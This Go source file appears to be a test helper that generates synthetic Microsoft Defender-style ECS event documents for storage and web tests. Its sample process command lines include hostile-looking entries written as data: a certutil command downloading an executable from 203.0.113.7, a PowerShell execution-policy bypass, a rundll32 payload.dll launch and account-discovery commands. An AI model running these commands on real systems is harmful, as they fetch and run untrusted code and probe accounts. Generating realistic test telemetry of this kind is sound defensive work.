// Package storetest generates synthetic ECS documents shaped like the
// normalizer's output, for store and web tests and benchmarks: varied hosts,
// users, processes, files, network peers and timestamps.
package storetest

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"time"
)

// Gen produces documents deterministically from a seed.
type Gen struct {
	rng  *rand.Rand
	From time.Time
	Span time.Duration
	// Step, when set, makes timestamps increase by Step per document (as a
	// live feed does) instead of spreading them at random over Span.
	Step time.Duration
	n    int
}

// New returns a generator of documents with timestamps spread uniformly over
// [from, from+span).
func New(seed uint64, from time.Time, span time.Duration) *Gen {
	return &Gen{rng: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), From: from, Span: span}
}

var (
	processes = []struct{ name, parent, cmd string }{
		{"cmd.exe", "explorer.exe", `cmd.exe /c whoami /all`},
		{"powershell.exe", "cmd.exe", `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Users\Public\run.ps1`},
		{"MpCmdRun.exe", "MsMpEng.exe", `"MpCmdRun.exe" Scan -ScheduleJob -RestrictPrivileges -DailyScan -ScanTrigger 54`},
		{"svchost.exe", "services.exe", `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
		{"rundll32.exe", "winword.exe", `rundll32.exe C:\Users\Public\payload.dll,DllRegisterServer`},
		{"chrome.exe", "explorer.exe", `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer`},
		{"net.exe", "cmd.exe", `net.exe user administrator /domain`},
		{"certutil.exe", "cmd.exe", `certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe`},
	}
	datasets = []struct{ dataset, category, cat, action string }{
		{"device_process_events", "AdvancedHunting-DeviceProcessEvents", "process", "ProcessCreated"},
		{"device_network_events", "AdvancedHunting-DeviceNetworkEvents", "network", "ConnectionSuccess"},
		{"device_file_events", "AdvancedHunting-DeviceFileEvents", "file", "FileCreated"},
		{"device_registry_events", "AdvancedHunting-DeviceRegistryEvents", "registry", "RegistryValueSet"},
		{"email_events", "AdvancedHunting-EmailEvents", "email", "Delivered"},
		{"alert_evidence", "AdvancedHunting-AlertEvidence", "threat", "Alert"},
	}
	users   = []string{"alice", "bob", "carol", "dave", "system", "svc_backup", "administrator", "erin"}
	domains = []string{"CONTOSO", "FABRIKAM", "NT AUTHORITY"}
	files   = []string{"report.docx", "invoice.pdf", "run.ps1", "payload.dll", "a.exe", "notes.txt", "setup.msi"}
	urls    = []string{"https://login.microsoftonline.com/", "http://203.0.113.7/a.exe", "https://contoso.sharepoint.com/sites/hr", "https://example.org/index.html"}
)

// Hosts is the number of distinct host names ("ws0001" ...).
const Hosts = 500

// Next returns the next document: the ECS JSON (message holds a raw record)
// and its timestamp.
func (g *Gen) Next() ([]byte, time.Time) {
	r := g.rng
	g.n++
	ts := g.From.Add(time.Duration(r.Int64N(int64(g.Span)))).UTC().Truncate(time.Microsecond)
	if g.Step > 0 {
		ts = g.From.Add(time.Duration(g.n) * g.Step).UTC()
	}
	ds := datasets[r.IntN(len(datasets))]
	p := processes[r.IntN(len(processes))]
	host := fmt.Sprintf("ws%04d", r.IntN(Hosts))
	hostID := fmt.Sprintf("%040x", r.Uint64()%Hosts)
	user := users[r.IntN(len(users))]
	domain := domains[r.IntN(len(domains))]
	file := files[r.IntN(len(files))]
	sha := fmt.Sprintf("%016x%016x%016x%016x", r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64())
	srcIP := fmt.Sprintf("10.%d.%d.%d", r.IntN(4), r.IntN(256), r.IntN(254)+1)
	dstIP := fmt.Sprintf("203.0.113.%d", r.IntN(254)+1)
	port := []int{443, 80, 445, 3389, 53, 8080, 22, 135}[r.IntN(8)]
	url := urls[r.IntN(len(urls))]
	reportID := r.IntN(1_000_000)

	raw := map[string]any{
		"time": ts.Format(time.RFC3339Nano), "tenantId": "11111111-1111-1111-1111-111111111111",
		"operationName": "Publish", "category": ds.category,
		"properties": map[string]any{
			"Timestamp": ts.Format(time.RFC3339Nano), "DeviceName": host, "DeviceId": hostID,
			"ActionType": ds.action, "FileName": p.name, "ProcessCommandLine": p.cmd,
			"InitiatingProcessFileName": p.parent, "AccountName": user, "AccountDomain": domain,
			"SHA256": sha, "LocalIP": srcIP, "RemoteIP": dstIP, "RemotePort": port, "RemoteUrl": url,
			"ReportId": reportID,
		},
	}
	rawJSON, _ := json.Marshal(raw)
	doc := map[string]any{
		"@timestamp": ts.Format(time.RFC3339Nano),
		"event":      map[string]any{"dataset": ds.dataset, "category": []string{ds.cat}, "type": []string{"info"}},
		"action":     map[string]any{"name": "Publish", "type": ds.action},
		"host":       map[string]any{"name": host, "id": hostID, "os": map[string]any{"type": "windows"}},
		"user":       map[string]any{"name": user, "domain": domain},
		"process": map[string]any{
			"name": p.name, "command_line": p.cmd, "pid": 1000 + r.IntN(60000),
			"parent": map[string]any{"name": p.parent, "pid": 500 + r.IntN(1000)},
		},
		"file":        map[string]any{"name": file, "hash": map[string]any{"sha256": sha}},
		"source":      map[string]any{"ip": srcIP},
		"destination": map[string]any{"ip": dstIP, "port": port},
		"url":         map[string]any{"original": url},
		"microsoft":   map[string]any{"defender": map[string]any{"report": map[string]any{"id": fmt.Sprint(reportID)}}},
		"message":     string(rawJSON),
	}
	switch ds.cat {
	case "registry":
		doc["registry"] = map[string]any{"key": `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`}
	case "email":
		doc["email"] = map[string]any{"from": map[string]any{"address": user + "@contoso.com"}}
	case "threat":
		doc["microsoft"].(map[string]any)["defender"].(map[string]any)["alert"] = map[string]any{"id": fmt.Sprintf("da%012d", r.IntN(1_000_000))}
	}
	b, _ := json.Marshal(doc)
	return b, ts
}
